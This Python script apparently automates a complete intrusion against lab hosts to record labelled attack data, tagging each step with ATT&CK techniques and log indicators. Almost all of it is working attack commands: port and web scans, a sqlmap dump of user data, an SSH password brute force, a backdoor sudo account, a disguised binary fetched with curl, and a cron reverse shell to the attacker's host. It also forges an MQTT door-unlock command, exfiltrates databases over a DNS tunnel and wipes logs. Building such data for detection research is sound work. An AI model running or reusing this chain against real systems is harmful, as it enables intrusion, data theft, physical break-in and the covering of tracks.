# SPDX-License-Identifier: Apache-2.0
"""The intrusion, step by step, with the tools that intruders use. Each step tells what it is (ATT&CK) and whether it worked:
a recording in which one did not is none."""

import pathlib
import re
import shutil
import subprocess
import threading
import time
from dataclasses import dataclass, field

import machine
import peers
from people import at, by_password, with_sudo

WEB, CONTROL, BROKER = peers.address("web-1"), peers.address("control"), peers.address("iot-1")
SHOP = f"http://{peers.SHOP}"
TOOLS = pathlib.Path("/root/tools")  # the attacker's own folder
KEY = f"{TOOLS}/key"
NEW_USER = "sysupdate"
PORT_SHELL, PORT_FILES, PORT_LOOT = 4444, 8080, 9001
TUNNEL_NET, TUNNEL_PASSWORD = "172.31.255.1", "tanager"
TUNNEL_PROGRAM = "/usr/local/sbin/kworkerd"
CRON_FILE = f"/etc/cron.d/{NEW_USER}"
CRON_COMMAND = f'/bin/bash -c "exec /bin/bash -i >& /dev/tcp/{CONTROL}/{PORT_SHELL} 0>&1"'

_GUESSED_USERS = ("root", "admin", "oracle", "test", "postgres", "bob", "support")
_GUESSED_PASSWORDS = ("123456", "password", "admin", "letmein", "qwerty", "root", "welcome1", "summer2026")
_PATHS = (".git/config", ".env", "backup.sql", "wp-login.php", "phpmyadmin/", "server-status", "api/users", "login",
          "about", "search", "admin.php", "config.php.bak", ".DS_Store", "id_rsa", "dump.tar.gz")


@dataclass
class Step:
    name: str
    activity: str
    techniques: tuple
    tools: tuple
    action: object
    indicators: tuple = ()  # texts that only this step leaves in the logs
    begin: float = 0.0
    end: float = 0.0
    worked: bool = False
    said: str = field(default="", repr=False)


def scan_ports():
    open_ports = at("attacker", "nmap", "-n", "-Pn", "-sS", "-T4", "--top-ports", "60", WEB, seconds_max=90)[1]
    at("attacker", "nmap", "-n", "-Pn", "-sX", "-T4", "-p", "21-25,80,443", WEB, seconds_max=60)
    versions = at("attacker", "nmap", "-n", "-Pn", "-sV", "-p", "22,80", "--script",
                  "http-title,http-methods,http-robots.txt", WEB, seconds_max=120)[1]
    return "22/tcp open" in open_ports and "OpenSSH" in versions, open_ports + versions


def find_content():
    listed = pathlib.Path("/usr/share/nmap/nselib/data/http-folders.txt").read_text().splitlines()
    words = [word.strip("/") + "/" for word in listed if re.fullmatch(r"/[a-z_-]+/", word)][::3][:220]
    (TOOLS / "words").write_text("\n".join((*words, *_PATHS)) + "\n")
    said = at("attacker", "ffuf", "-s", "-w", f"{TOOLS}/words", "-u", f"{SHOP}/FUZZ", "-t", "8", "-p", "0.1", "-mc",
              "all", "-fc", "404", "-maxtime", "90", seconds_max=120)[1]
    return "login" in said, said


def scan_for_holes():
    said = at("attacker", "wapiti", "-u", f"{SHOP}/", "-m", "sql,xss,file,exec,backup", "--scope", "folder", "-d", "2",
              "--max-scan-time", "60", "--max-attack-time", "25", "-S", "normal", "--flush-session", "--no-bugreport",
              "-f", "txt", "-o", f"{TOOLS}/wapiti.txt", "-v", "1", seconds_max=240)[1]
    return "Received a HTTP 500 error" in said, said


def dump_database():
    said = at("attacker", "sqlmap", "-u", f"{SHOP}/search?q=saw", "-p", "q", "--batch", "--dbms", "sqlite",
              "--technique", "BEU", "-T", "users", "--dump", "--answers", "crack=n,dict=n", "--delay", "0.2",
              "--output-dir", f"{TOOLS}/sqlmap", seconds_max=240)[1]
    return "ines.harder@post.example" in said, said


def guess_passwords():
    (TOOLS / "users").write_text("\n".join(_GUESSED_USERS) + "\n")
    (TOOLS / "passwords").write_text("\n".join(_GUESSED_PASSWORDS) + "\n")
    said = at("attacker", "hydra", "-I", "-u", "-t", "4", "-L", f"{TOOLS}/users", "-P", f"{TOOLS}/passwords", WEB,
              "ssh", seconds_max=420)[1]
    return f"login: support   password: {peers.PASSWORDS['support']}" in said, said


def _as_support(command, typed=0, *more):
    password = peers.PASSWORDS["support"]
    return by_password("attacker", "support", [password], command, *more, typed=f"{password}\n" * typed,
                       seconds_max=60)[1]


def _as_new_user(command, *more, **options):
    return at("attacker", "ssh", "-i", KEY, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
              "-o", "LogLevel=ERROR", "-F", "none", *more, f"{NEW_USER}@{WEB}", command, **options)[1]


def log_in():
    said = _as_support("id; hostname; w")
    return "support" in said, said


def look_around():
    said = _as_support(
        "whoami; uname -a; cat /etc/os-release; cat /etc/passwd; ps aux; ss -tunap; ip addr; ip route; "
        "ls -la /home /srv; crontab -l; find /usr/bin /usr/sbin -perm -4000 -type f; cat /etc/crontab; sleep 3")
    return "root:x:0:0" in said, said


def become_root():
    said = _as_support(with_sudo("-l", "cat /etc/shadow", "/bin/bash -c id"), 3, "-tt")
    return "uid=0(root)" in said, said


def make_user():
    machine.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", KEY)
    key = pathlib.Path(f"{KEY}.pub").read_text().strip()
    folder = f"/home/{NEW_USER}/.ssh"
    _as_support(
        with_sudo(f"useradd -m -s /bin/bash -G sudo {NEW_USER}", f"mkdir -p {folder}",
                  f"sh -c 'echo \"{key}\" >> {folder}/authorized_keys'", f"chown -R {NEW_USER}: {folder}",
                  f"sh -c 'echo \"{NEW_USER} ALL=(ALL) NOPASSWD: ALL\" > /etc/sudoers.d/{NEW_USER}'"), 5, "-tt")
    said = _as_new_user("sudo id")
    return "uid=0(root)" in said, said


def bring_tools():
    web = TOOLS / "www"
    web.mkdir()
    shutil.copy("/usr/sbin/iodine", web / "kworkerd")
    with subprocess.Popen(
            machine.as_peer("control", "timeout", "60", "python3", "-m", "http.server", str(PORT_FILES), "--directory",
                            str(web)), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL) as files:
        time.sleep(1.5)
        said = _as_new_user(f"sudo curl -s -o {TUNNEL_PROGRAM} http://{CONTROL}:{PORT_FILES}/kworkerd; "
                            f"sudo chmod 755 {TUNNEL_PROGRAM}; ls -l {TUNNEL_PROGRAM}")
        files.terminate()
    return "-rwxr-xr-x" in said, said


def persist():
    said = _as_new_user(f"echo '* * * * * root {CRON_COMMAND}' | sudo tee {CRON_FILE}; sudo chmod 644 {CRON_FILE}")
    return CRON_COMMAND in said, said


def use_shell():
    """cron calls back within a minute; what is typed into the shell that comes."""
    typed = ("id", "cat /etc/shadow | head -n 3", "ls -la /root /var/backups/shop", "cat /srv/shop/shop.py | head -n 5",
             "cp /var/backups/shop/*.db /dev/shm/ 2>/dev/null", "uname -a", "exit")
    line = "; ".join(f"sleep 1.5; echo {machine.quoted(command)}" for command in typed)
    said = at(
        "control", "sh", "-c",
        f"(for n in $(seq 180); do ss -tn state established | grep -q :{PORT_SHELL} && break; sleep 0.5; done; {line}) "
        f"| timeout 100 nc -ln {PORT_SHELL}", seconds_max=110)[1]
    return "uid=0(root)" in said, said


def misuse_things():
    """Through a port forwarded by sshd the attacker is a client of the broker: listens to all, then opens the door."""
    with subprocess.Popen(
            machine.as_peer("attacker", "timeout", "50", "ssh", "-i", KEY, "-o", "StrictHostKeyChecking=no", "-o",
                            "UserKnownHostsFile=/dev/null", "-F", "none", "-N", "-L", f"1883:{BROKER}:1883",
                            f"{NEW_USER}@{WEB}"), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL) as forward:
        time.sleep(4)
        said = at("attacker", "mosquitto_sub", "-h", "127.0.0.1", "-i", "explorer", "-v", "-W", "20", "-t", "#", "-t",
                  "$SYS/broker/clients/#")[1]
        status, more = at("attacker", "mosquitto_pub", "-h", "127.0.0.1", "-i", "doorkeeper2", "-t",
                          "building/door/main/command", "-m", '{"action": "unlock", "seconds": 86400}')
        forward.terminate()
    return "building/thermo" in said and status == 0, said + more


def tunnel_out():
    """A network over DNS queries, and the copied databases through it."""
    loot = TOOLS / "loot.tar.gz"
    server = subprocess.Popen(
        machine.as_peer("control", "timeout", "200", "iodined", "-f", "-c", "-P", TUNNEL_PASSWORD, f"{TUNNEL_NET}/27",
                        peers.TUNNEL), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(2)
    receiver = threading.Thread(target=at,
                                args=("control", "sh", "-c", f"timeout 150 nc -l {TUNNEL_NET} {PORT_LOOT} > {loot}"),
                                kwargs={"seconds_max": 160})
    receiver.start()
    said = _as_new_user(
        f"sudo timeout 100 {TUNNEL_PROGRAM} -f -r -P {TUNNEL_PASSWORD} {peers.address('dns-1')} {peers.TUNNEL} >/tmp/.k 2>&1 & "
        f"for n in $(seq 40); do ip addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; sleep 2; "
        f"sudo tar -czf - -C /dev/shm . | timeout 60 nc -N {TUNNEL_NET} {PORT_LOOT}; sleep 4; sudo pkill -x kworkerd; cat /tmp/.k",
        seconds_max=170)
    server.terminate()
    server.wait()
    receiver.join()
    size = loot.stat().st_size if loot.exists() else 0
    return size > 1000, f"{said}\n{size} bytes came out"


def cover_up():
    said = _as_new_user("sudo sed -i /203.0.113/d /var/log/auth.log; sudo truncate -s 0 /var/log/wtmp /var/log/btmp; "
                        "sudo rm -f /root/.bash_history /home/support/.bash_history; rm -f ~/.bash_history /tmp/.k; "
                        "sudo shred -u /dev/shm/*.db; sudo grep -c 203.0.113 /var/log/auth.log")
    return said.strip().endswith(("0", "1", "2", "3")), said  # the last sudo may be logged before it counts


STEPS = (
    Step("port-scan", "nmap looks for open ports, an odd-flags scan, then asks the servers who they are",
         ("T1595.001", "T1046"), ("nmap", ), scan_ports, ("Nmap Scripting Engine", "fw-deny")),
    Step("content-discovery", "ffuf tries 235 paths of the shop", ("T1595.003", ), ("ffuf", ), find_content,
         ("Fuzz Faster U Fool", )),
    Step("web-scan", "wapiti tries SQL, scripts, commands and file names in every parameter", ("T1595.002", ),
         ("wapiti", ), scan_for_holes, ("wapiti", )),
    Step("sql-injection", "sqlmap reads the table of users through the search", ("T1190", "T1213.006"), ("sqlmap", ),
         dump_database, ("sqlmap/", )),
    Step("password-guessing", "hydra tries eight passwords for seven users of sshd and finds one", ("T1110.001", ),
         ("hydra", ), guess_passwords, ("invalid user oracle", "Failed password for root")),
    Step("break-in", "the attacker logs in as support with the password that was found", ("T1078.003", "T1021.004"),
         ("ssh", ), log_in, ("Accepted password for support from 203.0.113.66", )),
    Step("discovery", "who, what, which processes, networks and files are there",
         ("T1033", "T1082", "T1087.001", "T1057", "T1049", "T1016", "T1083"), ("ssh", ), look_around, ("perm -4000", )),
    Step("privilege", "sudo: what may I do, the password hashes, a root shell", ("T1548.003", "T1003.008"),
         ("ssh", "sudo"), become_root, ("/etc/shadow", )),
    Step("new-account", "a new user with a key, in the group sudo and in sudoers",
         ("T1136.001", "T1098.004", "T1548.003"), ("ssh", "sudo", "useradd"), make_user, (NEW_USER, )),
    Step("tool-transfer", "a program is fetched from the attacker's server and named like a kernel thread",
         ("T1105", "T1036.005"), ("curl", ), bring_tools, (TUNNEL_PROGRAM, f"DPT={PORT_FILES} ")),
    Step("cron-persistence", "a line in cron.d starts a shell towards the attacker every minute", ("T1053.003", ),
         ("tee", "cron"), persist, (CRON_FILE, )),
    Step("reverse-shell", "the shell that cron started talks to the attacker's machine",
         ("T1059.004", "T1095", "T1005"), ("cron", "bash", "nc"), use_shell,
         (f"/dev/tcp/{CONTROL}", f"DPT={PORT_SHELL} ")),
    Step("things", "through a port forwarded by sshd: all topics of the MQTT broker, then a forged command to the lock",
         ("T1090.001", "T1119", "T0855"), ("ssh", "mosquitto_sub", "mosquitto_pub"), misuse_things,
         ("explorer", "doorkeeper2")),
    Step("dns-tunnel", "iodine makes a network of DNS queries, and the shop's databases leave through it",
         ("T1572", "T1071.004", "T1048.003"), ("iodine", "tar", "nc"), tunnel_out, (peers.TUNNEL_ZONE, )),
    Step("cover-up", "the attacker's lines are cut out of auth.log, login records emptied, files shredded",
         ("T1070.002", "T1070.003", "T1070.004"), ("sed", "truncate", "shred"), cover_up, ("/203.0.113/d", "truncate")),
)


def play(pause_s, only=()):
    """All steps, or those that are named, one after the other with a pause between them."""
    TOOLS.mkdir(exist_ok=True)
    for step in STEPS:
        if only and step.name not in only:
            continue
        step.begin = time.time()
        try:
            step.worked, step.said = step.action()
        except (OSError, subprocess.SubprocessError) as error:
            step.said = repr(error)
        step.end = time.time()
        print(f"record: {step.name}: {'done' if step.worked else 'FAILED'} in {step.end - step.begin:.0f} s",
              flush=True)
        time.sleep(pause_s)
